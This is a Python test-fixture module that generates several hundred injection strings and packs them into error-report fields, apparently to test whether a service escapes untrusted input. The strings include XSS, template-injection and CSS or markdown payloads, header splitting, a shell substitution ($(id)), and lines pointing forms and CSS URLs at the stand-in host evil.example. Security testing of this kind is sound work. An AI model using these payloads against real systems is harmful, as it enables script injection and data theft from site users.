"""Texts that attack a page, a log or a terminal, for every field that a stranger fills."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import product
from typing import Any, Final
from urllib.parse import quote

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea></title></style><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "&lt;b&gt; &#x3c;script&#x3e; %3Cscript%3E",
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0>",
    "\u202eevil\u2066 \u200b\ufeff\u2028\u0085 \U000e0041",
    "a\r\nSet-Cookie: x=y\r\n\r\n<b>",
    "`'\"$(id);| & \\ \x1b[31m",
    "<form action=//evil.example><input name=key><button formaction=//evil.example>",
)

TOGETHER: Final = tuple(" ".join(PAYLOADS[start::4]) for start in range(4))
"""The payloads combined into fewer texts, for slow tests."""

_TAGS: Final = (
    "a", "audio", "base", "body", "button", "details", "embed", "form", "frameset", "iframe", "img", "input", "link",
    "marquee", "math", "meta", "noscript", "object", "plaintext", "script", "select", "style", "svg", "template",
    "textarea", "title", "video", "xmp",
)  # fmt: skip
_HANDLERS: Final = (
    "onafterprint", "onanimationend", "onauxclick", "onbeforeinput", "onblur", "oncanplay", "onclick", "onerror",
    "onfocus", "onhashchange", "onload", "onmouseover", "onpageshow", "onpointerenter", "onscroll", "ontoggle",
    "ontransitionend", "onwheel", "hx-on:load", "hx-get", "hx-trigger", "sse-connect", "style", "formaction", "srcdoc",
)  # fmt: skip
_OUT_OF: Final = (
    "textarea", "title", "style", "script", "select", "template", "pre", "table", "svg", "math", "noscript", "option",
)  # fmt: skip
_SCHEMES: Final = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "javascript&colon;",
    "javascript&#58;", "\x01javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "blob:", "file:///",
    "//evil.example/", "\\\\evil.example\\", "https:javascript:", "mailto:a@b?body=", "http://a@evil.example/",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{ %s }}", "{%% print(%s) %%}", "{# %s #}", "${%s}", "#{%s}", "<%%= %s %%>", "{{{ %s }}}", "[[%s]]", "*{%s}",
    "@(%s)",
)  # fmt: skip
_EXPRESSIONS: Final = (
    "8371*7",
    "self.__init__.__globals__",
    "config.items()",
    "constructor.constructor('x')()",
)
_MUTATING: Final = (
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></foreignObject></svg>",
    "<table><td background='javascript:alert(1)'><a id=x></table><a id=x href=x>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<img src='x`<script>alert(1)</script>'`>",
    "<a href='x' / onclick=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<svg\x0conload=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
)
_STYLES: Final = (
    "</style><style>*{background:url(//evil.example)}", "x:expression(alert(1))", "@import '//evil.example/x.css';",
    "}body{display:none}", "red;background:url(javascript:alert(1))",
    "input[value^=a]{background:url(//evil.example/a)}",
    "/*", "*/ x {", "\\75\\72\\6c(//evil.example)", "position:fixed;inset:0;z-index:9",
)  # fmt: skip
_MARKDOWN: Final = (
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "[x]: javascript:alert(1)", "<javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)", "![x](x 'onerror=alert(1)')", "```\n</code><script>alert(1)\n```",
    "`</code><img src=x onerror=alert(1)>`", "| a | <img src=x onerror=alert(1)> |", "# <script>alert(1)</script>",
    "> <iframe src=//evil.example>", "* [x](  javascript:alert(1)  )", "<https://evil.example/' onclick='alert(1)>",
)  # fmt: skip
_UNSEEN: Final = (
    *"\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c", *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e",
    *"\u2028\u2029\u0085\u00a0\u3000\u2800\u115f\u3164", *"\U000e0041\U000e007f\ufff9\ufffc\ufffd\ufffe\uffff",
    "e" + "\u0301" * 40, "\ud7ff\ue000", "\U0001f468\u200d\U0001f469", "\U0010ffff",
)  # fmt: skip
_CONTROL: Final = tuple(chr(number) for number in (*range(1, 32), *range(127, 160)))


def _entities(text: str) -> Iterator[str]:
    """The text in the encodings of a page, an address or a script."""
    yield "".join(f"&#{ord(one)};" for one in text)
    yield "".join(f"&#x{ord(one):x}" for one in text)
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield "".join(f"\\u{ord(one):04x}" for one in text)
    yield "".join(f"\\x{ord(one):02x}" for one in text)
    yield text.translate({number: number + 0xFEE0 for number in range(0x21, 0x7F)})
    yield text.encode("utf-7").decode()


def _variants() -> Iterator[str]:
    for tag, shape in product(_TAGS, ("<%s>", "<%s onload=alert(1) src=x>", "</%s>", "<%s/")):
        yield shape % tag
    for handler, quoted in product(_HANDLERS, ("'", '"', "`", " ")):
        yield f"{quoted} {handler}={quoted}alert(1){quoted} x={quoted}"
    for tag, inner in product(
        _OUT_OF, ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "--><b>")
    ):
        yield f"</{tag}>{inner}"
    for scheme, rest in product(_SCHEMES, ("alert(1)", "<b>'\"x")):
        yield scheme + rest
    for template, expression in product(_TEMPLATES, _EXPRESSIONS):
        yield template % expression
    for text in ("<b>", "<script>", "javascript:alert(1)", "' onclick='"):
        yield from _entities(text)
    for one in (*_UNSEEN, *_CONTROL):
        yield f"a{one}<b>{one}' x={one}"
    yield from (*PAYLOADS, *_MUTATING, *_STYLES, *_MARKDOWN)


VARIANTS: Final[Sequence[str]] = tuple(dict.fromkeys(_variants()))
"""Over five hundred variants: tags, handlers, contexts, schemes, templates, encodings, invisible and mutating markup.
"""


AT_ONCE: Final = 64
"""The number of texts in one report: in frames, labels, context values and a note."""
CHUNKS: Final = tuple(VARIANTS[start : start + AT_ONCE] for start in range(0, len(VARIANTS), AT_ONCE))


def harmless(text: str) -> str:
    """A harmless text of the same length and equality, with an ideograph for all but letters, digits and spaces."""
    return re.sub(r"[^A-Za-z0-9 \r\n]", lambda one: chr(0x4E00 + ord(one[0]) % 0x5000), text)


def report(texts: Sequence[str]) -> dict[str, Any]:
    """A report with each text in a field of its own where there are several, and joined elsewhere."""
    # Frames that differ only in invisible characters count as equal: each gets its own letter.
    frames = [
        {"file": f"{chr(0x4E00 + number)}{text}", "function": text, "line": 1, "code": text, "in_app": True}
        for number, text in enumerate(texts)
    ]
    joined = " ".join(texts)
    return {
        "service": texts[0], "release": joined[:200], "host": joined[-200:], "message": joined,
        "exception": {
            "type": joined[:200], "module": joined[:200], "message": joined, "notes": list(texts), "frames": frames,
            "cause": {"type": texts[1], "message": joined, "frames": frames[:2]},
        },
        "context": {f"{number} {text}": {text: text} for number, text in enumerate(texts)},
        "links": [{"title": text, "url": "https://example.com/"} for text in texts[:20]],
    }  # fmt: skip
